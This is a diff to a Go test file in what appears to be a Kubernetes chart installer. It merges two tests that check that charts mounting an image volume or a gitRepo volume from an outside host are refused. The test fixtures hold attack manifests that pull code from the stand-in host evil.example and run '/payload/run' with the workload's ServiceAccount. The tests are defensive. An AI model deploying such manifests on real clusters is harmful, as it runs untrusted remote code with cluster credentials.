@@ -27,15 +27,26 @@ import (
 	"github.com/meshkeeper/meshkeeper/internal/charts"
 )
 
-// TestAChartCannotPullAnImageVolumeFromAnotherHub: an image volume (GA in Kubernetes 1.36) has the
-// kubelet pull an OCI image and mount its files into the pod, where a container's command can run
-// them: code from a registry the operator's installer did not allow, run with the workload's
-// ServiceAccount. The image hubs the installer allowed hold for it as for the containers' images: a
-// chart whose Deployment mounts one from another hub is refused, and the Deployment is not created.
-func TestAChartCannotPullAnImageVolumeFromAnotherHub(t *testing.T) {
-	m, c, ns := onAPIServer(t)
-	m.CheckImage = charts.Policy{}.CheckImage // Istio's official hubs
-	chart := attackChart("payload", `apiVersion: v1
+// TestAChartCannotMountCodeFromOutsideTheAllowedHubs: a volume can bring code into a pod as much as an
+// image can, code a container's command runs with the workload's ServiceAccount. An image volume (GA in
+// Kubernetes 1.36) has the kubelet pull an OCI image and mount its files: the image hubs the installer
+// allowed hold for it as for the containers' images. A gitRepo volume has the kubelet clone a repository
+// from any URL (on Kubernetes 1.31 and 1.32, which meshkeeper supports, the kubelet still serves it by
+// default): it is refused. A chart whose Deployment mounts either is refused, and the Deployment is not
+// created.
+func TestAChartCannotMountCodeFromOutsideTheAllowedHubs(t *testing.T) {
+	for name, tc := range map[string]struct {
+		volume, refusal string
+	}{
+		"an image volume from another hub": {volume: `image: {reference: "evil.example/payload:1"}`,
+			refusal: `which mounts image volume payload of image "evil.example/payload:1"`},
+		"a gitRepo volume": {volume: `gitRepo: {repository: "https://evil.example/payload.git"}`,
+			refusal: `which mounts gitRepo volume payload, a clone of "https://evil.example/payload.git"`},
+	} {
+		t.Run(name, func(t *testing.T) {
+			m, c, ns := onAPIServer(t)
+			m.CheckImage = charts.Policy{}.CheckImage // Istio's official hubs
+			chart := attackChart("payload", `apiVersion: v1
 kind: ServiceAccount
 metadata: {name: agent}
 ---
@@ -55,49 +66,13 @@ spec:
         volumeMounts: [{name: payload, mountPath: /payload}]
       volumes:
       - name: payload
-        image: {reference: "evil.example/payload:1"}
+        `+tc.volume+`
 `)
-	_, err := m.Ensure(t.Context(), attackRelease(ns, chart))
-	if got := (&appsv1.Deployment{}); c.Get(t.Context(), client.ObjectKey{Namespace: ns, Name: "agent"}, got) == nil {
-		t.Errorf("the Deployment was created with volumes %+v", got.Spec.Template.Spec.Volumes)
+			_, err := m.Ensure(t.Context(), attackRelease(ns, chart))
+			if got := (&appsv1.Deployment{}); c.Get(t.Context(), client.ObjectKey{Namespace: ns, Name: "agent"}, got) == nil {
+				t.Errorf("the Deployment was created with volumes %+v", got.Spec.Template.Spec.Volumes)
+			}
+			expectRefused(t, err, `Deployment `+ns+`/agent, `+tc.refusal, "(rule: "+ruleImage+")")
+		})
 	}
-	expectRefused(t, err, `Deployment `+ns+`/agent, which mounts image volume payload of image "evil.example/payload:1"`,
-		"(rule: "+ruleImage+")")
-}
-
-// TestAChartCannotCloneAGitRepositoryIntoAPod: a gitRepo volume has the kubelet clone a repository from
-// any URL into the pod (on Kubernetes 1.31 and 1.32, which meshkeeper supports, the kubelet still
-// serves it by default), where a container's command can run what it cloned: code from no hub the
-// installer allowed. A chart whose Deployment mounts one is refused, and the Deployment is not created.
-func TestAChartCannotCloneAGitRepositoryIntoAPod(t *testing.T) {
-	m, c, ns := onAPIServer(t)
-	m.CheckImage = charts.Policy{}.CheckImage // Istio's official hubs
-	chart := attackChart("clone", `apiVersion: v1
-kind: ServiceAccount
-metadata: {name: agent}
----
-apiVersion: apps/v1
-kind: Deployment
-metadata: {name: agent}
-spec:
-  selector: {matchLabels: {app: agent}}
-  template:
-    metadata: {labels: {app: agent}}
-    spec:
-      serviceAccountName: agent
-      containers:
-      - name: agent
-        image: docker.io/istio/pilot:1.31.1
-        command: [/payload/run]
-        volumeMounts: [{name: payload, mountPath: /payload}]
-      volumes:
-      - name: payload
-        gitRepo: {repository: "https://evil.example/payload.git"}
-`)
-	_, err := m.Ensure(t.Context(), attackRelease(ns, chart))
-	if got := (&appsv1.Deployment{}); c.Get(t.Context(), client.ObjectKey{Namespace: ns, Name: "agent"}, got) == nil {
-		t.Errorf("the Deployment was created with volumes %+v", got.Spec.Template.Spec.Volumes)
-	}
-	expectRefused(t, err, `Deployment `+ns+`/agent, which mounts gitRepo volume payload, a clone of "https://evil.example/payload.git"`,
-		"(rule: "+ruleImage+")")
 }
